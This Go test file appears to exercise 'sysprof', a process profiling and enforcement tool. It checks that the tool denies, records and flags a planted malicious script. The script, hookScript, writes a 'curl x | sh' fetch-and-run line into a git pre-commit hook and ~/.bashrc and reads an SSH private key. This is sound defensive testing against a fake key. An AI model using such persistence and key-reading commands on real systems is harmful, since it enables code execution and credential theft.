package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sysprof/sysprof/internal/testutil"
	"github.com/sysprof/sysprof/report"
)

// hookScript plants a git hook when ./evil exists (a denial under enforce: .git is protected).
const hookScript = `mkdir -p build; if [ -e evil ]; then echo 'curl x | sh' > .git/hooks/pre-commit; echo 'curl x | sh' >> "$HOME/.bashrc"; cat "$HOME/.ssh/id_ed25519"; fi; echo done`

// TestRunReportsAndAudit: enforce, enforce --audit and drift each leave one run report in the
// reports directory, and sysprof audit over it folds the planted hook write into one
// suspicious finding seen by all three; enforce --html draws the run.
func TestRunReportsAndAudit(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTool(t, "sh")
	dir := newProjectDir(t, "version: 1\n")
	if err := os.MkdirAll(filepath.Join(dir, ".git/hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	runs := filepath.Join(t.TempDir(), "runs")
	home := t.TempDir()
	writeFile(t, filepath.Join(home, ".bashrc"), "# rc\n")
	if err := os.MkdirAll(filepath.Join(home, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(home, ".ssh/id_ed25519"), "FAKE-KEY\n")
	env := []string{"SYSPROF_REPORTS_DIR=" + runs, "HOME=" + home}
	prof := filepath.Join(dir, "p.yaml")
	argv := []string{"sh", "-c", hookScript}
	sysprof := func(args ...string) (int, string, string) {
		t.Helper()
		return runSysprofEnv(t, dir, env, args...)
	}
	if code, _, stderr := sysprof(append([]string{"learn", "-p", prof, "--"}, argv...)...); code != 0 {
		t.Fatalf("learn: status %d\n%s", code, stderr)
	}
	if ents, _ := os.ReadDir(runs); len(ents) != 0 {
		t.Errorf("learn left %d run reports, want none (only enforce, audit, drift and held changes do)", len(ents))
	}
	writeFile(t, filepath.Join(dir, "evil"), "")
	page := filepath.Join(dir, "run.html")
	if code, _, stderr := sysprof(append([]string{"enforce", "-p", prof, "--html", page, "--"}, argv...)...); code != 0 || !strings.Contains(stderr, "pre-commit") {
		t.Fatalf("enforce: status %d, want 0 with the hook write denied\n%s", code, stderr)
	}
	if _, err := os.Stat(filepath.Join(dir, ".git/hooks/pre-commit")); err == nil {
		t.Fatal("the hook was written under enforce")
	}
	if b, err := os.ReadFile(page); err != nil || !strings.Contains(string(b), `class="proc denied"`) {
		t.Errorf("enforce --html: %v: no binary marked denied", err)
	}
	auditPage := filepath.Join(dir, "audit-run.html")
	if code, _, stderr := sysprof(append([]string{"enforce", "--audit", "-p", prof, "--html", auditPage, "--"}, argv...)...); code != 0 {
		t.Fatalf("enforce --audit: status %d\n%s", code, stderr)
	}
	// As root an audit records the run: its page draws the real tree, cat (run only now,
	// unknown to the profile) under dash, and marks what would have been denied.
	if b, err := os.ReadFile(auditPage); err != nil || !strings.Contains(string(b), `data-exe="/usr/bin/cat" data-denied="true" data-depth="1"`) {
		t.Errorf("enforce --audit --html: %v: cat is not drawn under dash with its would-be denial", err)
	}
	os.Remove(filepath.Join(dir, ".git/hooks/pre-commit"))
	if code, _, stderr := sysprof(append([]string{"drift", "-p", prof, "--"}, argv...)...); code != exitWidened {
		t.Fatalf("drift: status %d, want %d (the hook write widens)\n%s", code, exitWidened, stderr)
	}

	ents, err := os.ReadDir(runs)
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join(runs, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		env, err := report.ParseEnvelope(b)
		if err != nil {
			t.Fatalf("%s: %v", e.Name(), err)
		}
		kinds = append(kinds, env.Kind)
		if env.Host == "" || env.Project != filepath.Base(dir) || len(env.ProfileSHA256) != 64 || env.SysprofVersion == "" || env.Time.IsZero() {
			t.Errorf("%s: envelope lacks host, project, profile hash, version or time: %+v", e.Name(), env)
		}
	}
	slices.Sort(kinds)
	if want := []string{report.RunAudit, report.RunDrift, report.RunEnforce}; !slices.Equal(kinds, want) {
		t.Fatalf("run reports of kinds %q, want one each of %q", kinds, want)
	}

	code, out, stderr := sysprof("audit", runs, "--format", "json")
	if code != 0 {
		t.Fatalf("audit: status %d\n%s", code, stderr)
	}
	var res struct {
		Findings []struct {
			Class, Target, Reason string
			Runs                  int
		}
	}
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatalf("audit json: %v\n%s", err, out)
	}
	// The planted hook write, rc append and key read: each suspicious, ranked first.
	want := map[string]bool{"$WORKDIR/.git/hooks": false, "$HOME/.bashrc": false, "$HOME/.ssh": false}
	suspicious := 0
	for _, f := range res.Findings {
		for p := range want {
			if strings.HasPrefix(f.Target, p) || strings.HasPrefix(f.Target, home+strings.TrimPrefix(p, "$HOME")) {
				want[p] = true
				if f.Class != "suspicious" {
					t.Errorf("%s classified %s (%s), want suspicious", f.Target, f.Class, f.Reason)
				}
			}
		}
		if f.Class == "suspicious" {
			suspicious++
		}
	}
	for p, ok := range want {
		if !ok {
			t.Errorf("audit: no finding for %s:\n%s", p, out)
		}
	}
	for i, f := range res.Findings {
		if (i < suspicious) != (f.Class == "suspicious") {
			t.Errorf("finding %d (%s %s) out of rank: suspicious first", i, f.Class, f.Target)
		}
	}
	if t.Failed() {
		t.Logf("audit:\n%s", out)
	}
}
